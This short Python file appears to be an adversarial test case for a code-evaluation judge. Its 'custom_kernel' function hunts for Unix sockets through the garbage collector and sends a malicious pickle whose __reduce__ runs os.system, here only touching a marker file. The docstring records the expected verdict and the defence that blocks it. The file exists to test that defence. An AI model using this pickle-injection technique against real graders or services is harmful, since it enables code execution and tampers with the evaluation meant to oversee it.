"""Sends a pickle that would run a command in the judge.

verdict: integrity violation
seen: a frame holds no JSON
defence: D1, nothing is unpickled
"""

import gc
import os
import pickle
import socket
import struct


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/podium_exploit_pickle",)


def custom_kernel(data):
    body = pickle.dumps(Bomb())
    for found in gc.get_objects():
        if type(found) is socket.socket and found.family == socket.AF_UNIX:
            found.sendall(struct.pack(">I", len(body)) + body)
    return data[0] * 2
